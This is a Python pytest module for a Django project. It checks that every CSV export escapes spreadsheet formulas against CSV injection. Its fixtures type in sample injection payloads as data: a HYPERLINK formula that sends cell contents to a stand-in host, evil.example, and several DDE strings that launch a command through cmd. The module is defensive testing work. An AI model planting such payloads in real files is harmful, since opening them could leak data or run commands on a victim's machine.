"""No CSV the project writes can carry a formula into a spreadsheet (OWASP's CSV injection): every CSV goes out
through ``exports.csv_files``, and every CSV endpoint, downloaded with a formula typed into the data it exports,
has no cell that starts like one.

The endpoints are found by walking the URL resolver for views that answer with ``csv_response``; the source check
below makes sure no other code writes CSV, so a new export cannot be missed by the walk."""

import csv
import inspect
import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from accounts.tests.factories import OrganizationFactory, UserFactory
from checklists.tests.factories import ChecklistItemFactory, ChecklistStageFactory
from engagements.tests.factories import EngagementFactory
from escalations.tests.factories import TUESDAY_10, raise_flag

pytestmark = pytest.mark.django_db

# Written out here rather than imported, so the check does not lean on the code it checks.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

CLIENT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
ENGAGEMENT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
CSM_NAME = "+1+cmd|' /C calc'!A0"
PM_NAME = "-2+3+cmd|' /C calc'!A0"
ITEM_TITLE = "\t=1+1"


@pytest.fixture
def formulas(vendor, director):
    """One engagement whose every typed-in name is a formula, with a red flag (for the SLA figures) and an open item
    due (the dashboard's "next due")."""
    client_org = OrganizationFactory(name=CLIENT_NAME)
    csm = UserFactory(csm=True, organization=vendor, full_name=CSM_NAME)
    pm = UserFactory(pm=True, organization=vendor, full_name=PM_NAME)
    engagement = EngagementFactory(client=client_org, csm=csm, pm=pm, deputy_pm=None, name=ENGAGEMENT_NAME)
    ChecklistItemFactory(stage=ChecklistStageFactory(engagement=engagement), title=ITEM_TITLE, due_on=date(2099, 1, 1))
    key_user = UserFactory(key_user=True, organization=client_org, full_name="\rKey=User")
    raise_flag(engagement, key_user, now=TUESDAY_10, title="=cmd|' /C calc'!A0")
    return engagement


# Every CSV endpoint: the queries to download it with, who may, and the payloads the download must hold.
CSV_ENDPOINTS = {
    # The audit trail (PostgreSQL triggers) names what was created: the engagement and its item.
    "portfolio:engagement_history_csv": {
        "queries": [""],
        "user": "director",
        "kwargs": lambda engagement: {"pk": engagement.pk},
        "payloads": [ENGAGEMENT_NAME, ITEM_TITLE],
    },
    "portfolio:dashboard_csv": {
        "queries": [""],
        "user": "director",
        "payloads": [CLIENT_NAME, ENGAGEMENT_NAME, CSM_NAME, PM_NAME],
    },
    "escalations:sla_csv": {
        "queries": ["?scope=client", "?scope=engagement"],
        "user": "director",
        "payloads": [CLIENT_NAME],
    },
}


def _views(resolver: URLResolver, namespace: str = ""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _views(entry, inner)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", entry.callback


def _answers_csv(view) -> bool:
    try:
        source = inspect.getsource(inspect.unwrap(view))
    except (OSError, TypeError):  # built in, or a class-based view of a library
        return False
    return "csv_response(" in source


def test_the_walk_finds_every_csv_endpoint_and_each_is_checked_below():
    found = {name for name, view in _views(get_resolver()) if _answers_csv(view)}
    assert found == set(CSV_ENDPOINTS), "A new CSV endpoint needs a formula payload in CSV_ENDPOINTS"


def _project_sources():
    base = Path(settings.BASE_DIR)
    for path in sorted(base.rglob("*.py")):
        parts = path.relative_to(base).parts
        if parts[0].startswith(".") or parts[0] in {"var", "static", "node_modules"} or "tests" in parts:
            continue
        yield path.relative_to(base).as_posix(), path.read_text(encoding="utf-8")


WRITES_CSV = re.compile(r"^\s*(import csv\b|from csv import)|content_type=[\"']text/csv", re.MULTILINE)
# The helper itself (the upload allow-list names the type as a key, not as a response's).
MAY_NAME_CSV = {"exports/csv_files.py"}


def test_no_code_writes_csv_but_the_one_helper():
    writers = [name for name, text in _project_sources() if name not in MAY_NAME_CSV and WRITES_CSV.search(text)]
    assert writers == [], "Write CSV through exports.csv_files.csv_response, which escapes formulas"


@pytest.mark.parametrize("name", sorted(CSV_ENDPOINTS))
def test_no_cell_of_a_csv_export_starts_like_a_formula(request, client, formulas, name):
    endpoint = CSV_ENDPOINTS[name]
    client.force_login(request.getfixturevalue(endpoint["user"]))
    for query in endpoint["queries"]:
        kwargs = endpoint["kwargs"](formulas) if "kwargs" in endpoint else None
        response = client.get(reverse(name, kwargs=kwargs) + query)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), query
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], query
        for payload in endpoint["payloads"]:  # the formulas were exported, as text
            assert any(payload in cell for cell in cells), (query, payload)


def test_safe_cell_quotes_what_a_spreadsheet_would_run_and_nothing_else():
    from exports.csv_files import safe_cell

    for payload in ("=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(payload) == "'" + payload
    assert [safe_cell(value) for value in ("Acme", "a=b", "", None, -3, 2.5)] == ["Acme", "a=b", "", "", "-3", "2.5"]
